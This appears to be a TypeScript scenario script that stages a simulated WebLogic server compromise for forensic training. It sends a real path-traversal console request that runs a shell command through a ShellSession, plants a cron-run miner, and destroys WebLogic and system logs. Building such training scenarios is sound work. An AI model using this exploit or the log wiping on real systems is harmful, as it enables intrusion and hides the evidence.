// All logs of the server itself and of the system are gone; cron has restarted the miner, so that its parents tell nothing.
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import { noJournal } from '../../long-ago.ts'
import { nginx } from '../../nginx.ts'
import { ordinary } from '../../past.ts'
import { weblogic } from '../../products.ts'
import type { Stage } from '../../stage.ts'
import { wipe } from '../../wiping.ts'

export function dress(dress: Dress): void {
  dress.toy(weblogic)
  nginx(dress, 'location / { proxy_pass http://127.0.0.1:7001; }')
  dress.enable('nginx')
  dress.logins(ordinary)
  noJournal(dress)
}

export async function plant(stage: Stage): Promise<void> {
  const drop = { path: '/tmp/.wls/wlsd', cron: false }
  const line = dropper(stage, drop)
  await stage.inside('mkdir -p /home/oracle; chown oracle: /home/oracle')
  await stage.scan('192.0.2.77')
  for (const path of ['/', '/shop/', '/console/login/LoginForm.jsp']) await stage.http('198.51.100.20', path)
  stage.mark('occurrence')
  const handle = `com.tangosol.coherence.mvel2.sh.ShellSession("java.lang.Runtime.getRuntime().exec('${line}');")`
  await stage.http(
    '203.0.113.219',
    `/console/css/%252e%252e%252fconsole.portal?_nfpb=true&_pageLabel=&handle=${encodeURIComponent(handle)}`,
  )
  await stage.inside('while ! pgrep -x wlsd; do sleep 0.2; done; pkill -x wlsd')
  await stage.byCron(line, 'oracle')
  await stage.inside('rm -rf /u01/oracle/user_projects/domains/base_domain/servers/AdminServer/logs')
  await wipe(stage, ['auth', 'syslog', 'cron', 'logins'])
}
